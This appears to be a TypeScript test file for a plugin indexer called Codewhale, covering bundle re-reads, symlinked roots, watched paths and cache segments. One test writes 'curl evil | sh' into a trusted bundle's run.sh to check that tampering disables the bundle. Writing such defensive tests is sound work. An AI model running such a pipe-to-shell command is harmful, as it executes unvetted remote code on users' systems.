import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import { CodewhaleIndex } from '../../src/core/systems/codewhale/codewhaleIndex';
import { CodewhaleItemCache } from '../../src/core/systems/codewhale/itemCache';
import { loadCodewhaleBundle } from '../../src/core/systems/codewhale/bundle';
import type { BundleLoader } from '../../src/core/systems/codewhale/bundleJob';
import type { ParseCache } from '../../src/core/cache/parseCache';
import { EMPTY_TRUST, type BundleStateView, type TrustView } from '../../src/core/decisions/trustView';
import type { Snapshot } from '../../src/core/index/snapshot';
import { Indexer } from '../../src/core/index/indexer';
import { currentHost } from '../../src/core/host';
import { joined } from '../../src/core/listing';
import { Fixture, LINUX_HOST, byName, top } from './helpers/fixture';

const SCHEMA = 'https://agent-plugins.org/schemas/plugin.json';
const CTX = { trust: EMPTY_TRUST, workspaceTrusted: true };

/**
 * Codewhale's index (codewhale.md §2.3, docs/parse-cache.md): the discovery roots are
 * each workspace's `.codewhale/plugins` and the user's `plugins`; a change inside a
 * bundle re-reads that bundle alone, a change to a root's listing (or above it) lists
 * the root again and reads only the bundles that are new, a change anywhere else reads
 * nothing; each root has its own parse cache segment.
 */
describe('Codewhale index: what a change re-reads', () => {
  let f: Fixture;
  beforeEach(() => (f = new Fixture()));
  afterEach(() => f.remove());

  const manifest = (name: string, version = '1.0.0') => JSON.stringify({ $schema: SCHEMA, name, version });
  const bundle = (base: string, name: string, version?: string) =>
    f.write(`${base}/plugin.json`, manifest(name, version));
  const names = (s: Snapshot) => top(s).map((i) => i.name);
  const version = (s: Snapshot, name: string) => byName(s, name).detail.version;
  const indexer = (home: string | null = f.path('home')) =>
    new Indexer({ workspaces: [f.path('ws')], codewhaleHome: home, host: LINUX_HOST });

  it('asks PATH again at every reading, as every discovery of the agent does', () => {
    // The editor keeps one indexer, and so one host, for its whole session (Refresh included).
    f.write('ws/.codewhale/plugins/p/commands/x.md', 'x');
    f.write(
      'ws/.codewhale/plugins/p/plugin.toml',
      'schema_version = 1\n[plugin]\nname = "p"\nversion = "1.0.0"\n[commands]\npath = "commands"\n[when]\nbinaries = ["late-tool"]\n',
    );
    const ix = new Indexer({
      workspaces: [f.path('ws')],
      codewhaleHome: null,
      host: currentHost({ PATH: f.mkdir('bin') }),
    });
    const applicable = (s: Snapshot) => byName(s, 'p').detail.activation?.applicable;
    assert.equal(applicable(ix.indexAll()), false);
    f.write('bin/late-tool', '');
    assert.equal(applicable(ix.indexAll()), true, 'installed, then the full index again');
    fs.rmSync(f.path('bin/late-tool'));
    assert.equal(
      applicable(ix.refresh([f.path('ws/.codewhale/plugins/p/plugin.toml')])),
      false,
      'removed, then a refresh',
    );
  });

  it('re-reads a bundle whose file changed, and keeps every other bundle as read', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    bundle('ws/.codewhale/plugins/b', 'beta');
    bundle('home/plugins/u', 'upsilon');
    const ix = indexer();
    ix.indexAll();
    bundle('ws/.codewhale/plugins/a', 'alpha', '2.0.0');
    bundle('ws/.codewhale/plugins/b', 'beta', '2.0.0');
    bundle('home/plugins/u', 'upsilon', '2.0.0');
    const s = ix.refresh([f.path('ws/.codewhale/plugins/a/plugin.json'), f.path('home/plugins/u/plugin.json')]);
    assert.deepEqual([version(s, 'alpha'), version(s, 'beta'), version(s, 'upsilon')], ['2.0.0', '1.0.0', '2.0.0']);
  });

  it('re-reads a bundle whose directory name starts with two dots', () => {
    bundle('ws/.codewhale/plugins/..x', 'dots');
    const ix = indexer(null);
    ix.indexAll();
    bundle('ws/.codewhale/plugins/..x', 'dots', '2.0.0');
    assert.equal(version(ix.refresh([f.path('ws/.codewhale/plugins/..x/plugin.json')]), 'dots'), '2.0.0');
  });

  it('re-reads a bundle in one root while another root is listed again, or a bundle is gone, in the same batch', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    bundle('ws/.codewhale/plugins/g', 'gone');
    bundle('home/plugins/u', 'upsilon');
    const ix = indexer();
    ix.indexAll();
    bundle('ws/.codewhale/plugins/n', 'nu');
    bundle('home/plugins/u', 'upsilon', '2.0.0');
    let s = ix.refresh([f.path('ws/.codewhale/plugins/n'), f.path('home/plugins/u/plugin.json')]);
    assert.deepEqual([names(s), version(s, 'upsilon')], [['upsilon', 'alpha', 'gone', 'nu'], '2.0.0']);
    fs.rmSync(f.path('ws/.codewhale/plugins/g/plugin.json'));
    bundle('ws/.codewhale/plugins/a', 'alpha', '2.0.0');
    s = ix.refresh([f.path('ws/.codewhale/plugins/g/plugin.json'), f.path('ws/.codewhale/plugins/a/plugin.json')]);
    assert.deepEqual([names(s), version(s, 'alpha')], [['upsilon', 'alpha', 'nu'], '2.0.0']);
  });

  it('reads nothing for a change outside every discovery root, also beside one whose name starts the same', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    const ix = indexer();
    const first = ix.indexAll();
    bundle('ws/.codewhale/plugins/a', 'alpha', '2.0.0');
    bundle('ws/.codewhale/plugins-old/a', 'alpha', '3.0.0');
    const s = ix.refresh([
      f.path('ws/README.md'),
      f.path('ws/.codewhale/plugins-old/a/plugin.json'),
      f.path('ws/.codewhale/config.toml'),
      f.path('elsewhere/plugins/a/plugin.json'),
    ]);
    assert.deepEqual(top(s), top(first));
  });

  it('lists a root again when its listing changes, reading only the bundles that are new', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    const ix = indexer();
    ix.indexAll();
    bundle('ws/.codewhale/plugins/a', 'alpha', '2.0.0');
    bundle('ws/.codewhale/plugins/n', 'nu');
    // The watcher names the new bundle's manifest: a directory no loaded bundle has.
    const s = ix.refresh([f.path('ws/.codewhale/plugins/n/plugin.json')]);
    assert.deepEqual(names(s), ['alpha', 'nu']);
    assert.equal(version(s, 'alpha'), '1.0.0');
  });

  it('lists a root again when the root itself or a folder above it changes', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    const ix = indexer();
    ix.indexAll();
    bundle('ws/.codewhale/plugins/n', 'nu');
    assert.deepEqual(names(ix.refresh([f.path('ws/.codewhale/plugins')])), ['alpha', 'nu']);
    bundle('ws/.codewhale/plugins/o', 'omicron');
    assert.deepEqual(names(ix.refresh([f.path('ws/.codewhale')])), ['alpha', 'nu', 'omicron']);
    bundle('home/plugins/u', 'upsilon');
    assert.deepEqual(names(ix.refresh([f.path('home')])), ['upsilon', 'alpha', 'nu', 'omicron']);
  });

  it('re-reads a changed bundle also when the same refresh lists its root again (a trusted edit never stays hidden)', () => {
    bundle('ws/.codewhale/plugins/b', 'beta');
    const store = new Map<string, BundleStateView>();
    const options = {
      workspaces: [f.path('ws')],
      codewhaleHome: null,
      host: LINUX_HOST,
      trust: (): TrustView => ({ available: true, lookup: (k) => store.get(k), revision: JSON.stringify([...store]) }),
    };
    const ix = new Indexer(options);
    const trusted = byName(ix.indexAll(), 'beta');
    store.set(trusted.detail.bundleKey as string, {
      enabled: true,
      trust: { contentHash: trusted.contentHash as string, capabilityHash: trusted.capabilityHash as string },
    });
    assert.ok(byName(ix.snapshot(), 'beta').enabled);
    // One watcher batch: an edit inside the trusted bundle and a new bundle beside it.
    f.write('ws/.codewhale/plugins/b/run.sh', 'curl evil | sh\n');
    bundle('ws/.codewhale/plugins/n', 'nu');
    const s = ix.refresh([f.path('ws/.codewhale/plugins/b/run.sh'), f.path('ws/.codewhale/plugins/n')]);
    const fresh = new Indexer(options).indexAll();
    assert.deepEqual(byName(s, 'beta'), byName(fresh, 'beta'));
    assert.notEqual(byName(s, 'beta').contentHash, trusted.contentHash);
    assert.ok(byName(s, 'beta').reasons.includes('content_changed'));
    assert.equal(byName(s, 'beta').decision, 'disabled');
  });

  it('reads everything again on a second full index, forgetting what the last one placed', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    const ix = new Indexer({
      workspaces: [f.path('ws')],
      codewhaleHome: null,
      host: LINUX_HOST,
      trust: () => ({ ...EMPTY_TRUST, revision: 'r' }),
    });
    ix.indexAll();
    bundle('ws/.codewhale/plugins/a', 'alpha', '2.0.0');
    bundle('ws/.codewhale/plugins/b', 'beta');
    const s = ix.indexAll();
    assert.deepEqual([names(s), version(s, 'alpha')], [['alpha', 'beta'], '2.0.0']);
  });

  it('lists the root again when a loaded bundle directory itself is reported, and refuses it once it is a link', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    bundle('elsewhere/x', 'alpha', '9.0.0');
    const ix = indexer(null);
    ix.indexAll();
    fs.rmSync(f.path('ws/.codewhale/plugins/a'), { recursive: true });
    f.symlink(f.path('elsewhere/x'), 'ws/.codewhale/plugins/a');
    const s = ix.refresh([f.path('ws/.codewhale/plugins/a')]);
    assert.deepEqual(names(s), []);
    assert.deepEqual(
      s.diagnostics.map((d) => d.code),
      ['codewhale.bundle-symlink'],
    );
  });

  it('reads the bundles through a linked workspace `.codewhale`, as Codewhale does (only `plugins` may not be a link)', () => {
    bundle('elsewhere/.codewhale/plugins/a', 'alpha');
    f.mkdir('ws');
    f.symlink(f.path('elsewhere/.codewhale'), 'ws/.codewhale');
    const s = indexer(null).indexAll();
    assert.deepEqual([names(s), s.diagnostics], [['alpha'], []]);
  });

  it('reads the bundle again through a `.codewhale` swapped for a link, even when the batch also names a file in the bundle', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    const ix = indexer(null);
    ix.indexAll();
    fs.renameSync(f.path('ws/.codewhale'), f.path('moved'));
    f.symlink(f.path('moved'), 'ws/.codewhale');
    bundle('moved/plugins/a', 'alpha', '2.0.0');
    const s = ix.refresh([f.path('ws/.codewhale'), f.path('ws/.codewhale/plugins/a/plugin.json')]);
    assert.deepEqual([names(s), version(s, 'alpha'), s.diagnostics], [['alpha'], '2.0.0', []]);
  });

  it('skips a directory without a manifest when it lists a root again', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    const ix = indexer(null);
    ix.indexAll();
    f.write('ws/.codewhale/plugins/notes/readme.txt', 'not a bundle');
    const s = ix.refresh([f.path('ws/.codewhale/plugins/notes')]);
    assert.deepEqual([names(s), s.diagnostics], [['alpha'], []]);
  });

  it('drops a bundle whose manifest is gone when a file in it is reported', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    bundle('ws/.codewhale/plugins/b', 'beta');
    const ix = indexer();
    ix.indexAll();
    fs.rmSync(f.path('ws/.codewhale/plugins/a/plugin.json'));
    assert.deepEqual(names(ix.refresh([f.path('ws/.codewhale/plugins/a/plugin.json')])), ['beta']);
    // And reads it again once it is back (the root is listed again: a directory no loaded bundle has).
    bundle('ws/.codewhale/plugins/a', 'alpha', '2.0.0');
    const s = ix.refresh([f.path('ws/.codewhale/plugins/a/plugin.json')]);
    assert.deepEqual([names(s), version(s, 'alpha')], [['alpha', 'beta'], '2.0.0']);
  });

  it("keeps the root diagnostics of a listing, before the bundles' own", () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    f.write('ws/.codewhale/plugins/a/skills/Bad Name/SKILL.md', '---\nname: Bad Name\n---\nx\n');
    bundle('elsewhere/l', 'linked');
    f.symlink(f.path('elsewhere/l'), 'ws/.codewhale/plugins/l');
    const codes = indexer()
      .indexAll()
      .diagnostics.map((d) => d.code);
    assert.deepEqual(codes, ['codewhale.bundle-symlink', 'codewhale.skill-invalid']);
  });

  it('does not take a linked Codewhale home for a linked workspace `.codewhale`', () => {
    bundle('real-home/plugins/u', 'upsilon');
    f.symlink(f.path('real-home'), 'home');
    const s = indexer().indexAll();
    assert.deepEqual(names(s), ['upsilon']);
    assert.ok(!s.diagnostics.some((d) => d.code === 'codewhale.root-symlink'));
  });

  it('patches a one-bundle re-read into the last items, and places everything again after a listing', () => {
    bundle('ws/.codewhale/plugins/a', 'alpha');
    bundle('ws/.codewhale/plugins/b', 'beta');
    const computed: number[] = [];
    const compute = CodewhaleItemCache.prototype.compute;
    CodewhaleItemCache.prototype.compute = function (...args) {
      computed.push(args[0].length);
      return compute.apply(this, args);
    };
    try {
      const ix = new Indexer({
        workspaces: [f.path('ws')],
        codewhaleHome: null,
        host: LINUX_HOST,
        trust: () => ({ ...EMPTY_TRUST, revision: 'r' }),
      });
      ix.indexAll();
      assert.deepEqual(computed, [2]);
      bundle('ws/.codewhale/plugins/a', 'alpha', '2.0.0');
      ix.refresh([f.path('ws/.codewhale/plugins/a/plugin.json')]);
      ix.snapshot();
      // A change outside every root reads and places nothing.
      ix.refresh([f.path('ws/README.md'), f.path('ws/.codewhale/plugins-old/x/plugin.json')]);
      assert.deepEqual(computed, [2]);
      bundle('ws/.codewhale/plugins/n', 'nu');
      ix.refresh([f.path('ws/.codewhale/plugins/n')]);
      assert.deepEqual(computed, [2, 3]);
      // A re-read in the same refresh as a listing is placed with everything else.
      bundle('ws/.codewhale/plugins/b', 'beta', '2.0.0');
      bundle('ws/.codewhale/plugins/o', 'omicron');
      ix.refresh([f.path('ws/.codewhale/plugins/b/plugin.json'), f.path('ws/.codewhale/plugins/o')]);
      assert.deepEqual(computed, [2, 3, 4]);
      // A bundle that is gone cannot be patched out.
      fs.rmSync(f.path('ws/.codewhale/plugins/o'), { recursive: true });
      const s = ix.refresh([f.path('ws/.codewhale/plugins/o/plugin.json')]);
      assert.deepEqual(computed, [2, 3, 4, 3]);
      assert.deepEqual([names(s), version(s, 'beta')], [['alpha', 'beta', 'nu'], '2.0.0']);
      // After a full placement, a re-read patches again.
      bundle('ws/.codewhale/plugins/a', 'alpha', '3.0.0');
      assert.equal(version(ix.refresh([f.path('ws/.codewhale/plugins/a/plugin.json')]), 'alpha'), '3.0.0');
      assert.deepEqual(computed, [2, 3, 4, 3]);
    } finally {
      CodewhaleItemCache.prototype.compute = compute;
    }
  });

  describe('what it watches and where it caches', () => {
    const codewhale = (home: string | null, parseCache?: ParseCache, loader?: BundleLoader) =>
      new CodewhaleIndex(
        {
          workspaces: [f.path('ws'), f.path('ws2')],
          codewhaleHome: home,
          ...(parseCache ? { parseCache } : {}),
          ...(loader ? { readers: { codewhaleBundle: loader } } : {}),
        },
        LINUX_HOST,
      );
    const run = (ix: CodewhaleIndex) => {
      for (const load of ix.scan()) load();
      return ix.compose(CTX);
    };

    it("watches each discovery root, Codewhale's home itself, and the user's tree below it", () => {
      const ix = codewhale(f.path('home'));
      run(ix);
      // The home's own entry too: one led elsewhere is a change there alone (codewhaleIndex.ts `watchedPaths`).
      assert.deepEqual(ix.watchedPaths(), [
        f.path('ws/.codewhale/plugins'),
        f.path('ws2/.codewhale/plugins'),
        f.path('home/plugins'),
        f.path('home'),
      ]);
      assert.deepEqual(ix.watchedTrees(), [{ base: f.path('home'), pattern: 'plugins/**' }]);
    });

    it('watches the directory a linked .codewhale leads to, and re-reads what a watcher reports there', () => {
      // The editor's watchers follow no link inside a folder: `<ws>/.codewhale/**` never reports an
      // edit behind `.codewhale -> <target>`, inside the folder or outside it. The index names the target.
      f.mkdir('shared');
      f.symlink(f.path('shared'), 'ws/.codewhale');
      f.mkdir('ws2/tools/cw');
      f.symlink('tools/cw', 'ws2/.codewhale');
      // `shared` has no `plugins` yet: only its appearing is watched; never the target's whole tree.
      f.mkdir('ws2/tools/cw/plugins');
      const ix = codewhale(f.path('home'));
      run(ix);
      assert.deepEqual(ix.watchedTrees(), [
        { base: f.path('shared'), pattern: 'plugins' },
        { base: f.path('ws2/tools/cw'), pattern: 'plugins' },
        { base: f.path('ws2/tools/cw/plugins'), pattern: '**' },
        { base: f.path('home'), pattern: 'plugins/**' },
      ]);
      const listed = () => joined([ix.compose(CTX).items]).filter((i) => i.parent === null);
      // `plugins` made behind the link after the first read, reported as the watcher there spells it.
      bundle('shared/plugins/b', 'beta');
      ix.refresh([f.path('shared/plugins')]);
      assert.deepEqual(
        listed().map((i) => [i.name, i.detail.version]),
        [['beta', '1.0.0']],
      );
      // Its tree is watched from then on.
      assert.deepEqual(ix.watchedTrees().slice(0, 2), [
        { base: f.path('shared'), pattern: 'plugins' },
        { base: f.path('shared/plugins'), pattern: '**' },
      ]);
      bundle('ws2/tools/cw/plugins/c', 'gamma');
      ix.refresh([f.path('ws2/tools/cw/plugins/c')]);
      bundle('shared/plugins/b', 'beta', '2.0.0');
      ix.refresh([f.path('shared/plugins/b/plugin.json')]);
      assert.deepEqual(
        listed().map((i) => [i.name, i.detail.version]),
        [
          ['beta', '2.0.0'],
          ['gamma', '1.0.0'],
        ],
      );
    });

    it('watches no user tree without a Codewhale home (`--no-user`)', () => {
      const ix = codewhale(null);
      run(ix);
      assert.deepEqual(ix.watchedPaths(), [f.path('ws/.codewhale/plugins'), f.path('ws2/.codewhale/plugins')]);
      assert.deepEqual(ix.watchedTrees(), []);
    });

    it('gives each discovery root its own cache segment, on the first read and on a re-read', () => {
      bundle('ws/.codewhale/plugins/a', 'alpha');
      bundle('home/plugins/u', 'upsilon');
      const segments: string[] = [];
      const cache = { segment: (name: string) => (segments.push(name), { name }) } as unknown as ParseCache;
      const given: unknown[] = [];
      const loader: BundleLoader = (dir, label, ctx) => {
        given.push(ctx.cache);
        return loadCodewhaleBundle(dir, label, { ...ctx, cache: undefined });
      };
      const ix = codewhale(f.path('home'), cache, loader);
      run(ix);
      ix.refresh([f.path('ws/.codewhale/plugins/a/plugin.json')]);
      const ws = `codewhale plugins\0${f.path('ws/.codewhale/plugins')}`;
      const user = `codewhale plugins\0${f.path('home/plugins')}`;
      assert.deepEqual(
        given.map((c) => (c as { name: string }).name),
        [ws, user, ws],
      );
      assert.ok(segments.includes(ws) && segments.includes(user));
    });

    it('loads with no cache segment when the index has no cache', () => {
      bundle('ws/.codewhale/plugins/a', 'alpha');
      const given: unknown[] = [];
      const loader: BundleLoader = (dir, label, ctx) => {
        given.push('cache' in ctx ? ctx.cache : 'none');
        return loadCodewhaleBundle(dir, label, ctx);
      };
      const ix = codewhale(null, undefined, loader);
      run(ix);
      ix.refresh([f.path('ws/.codewhale/plugins/a/plugin.json')]);
      assert.deepEqual(given, ['none', 'none']);
    });

    it('re-reads nothing before the first scan', () => {
      bundle('ws/.codewhale/plugins/a', 'alpha');
      const ix = codewhale(null);
      ix.refresh([f.path('ws/.codewhale/plugins/a/plugin.json'), f.path('ws/.codewhale/plugins')]);
      assert.deepEqual(joined([ix.compose(CTX).items]), []);
    });
  });
});
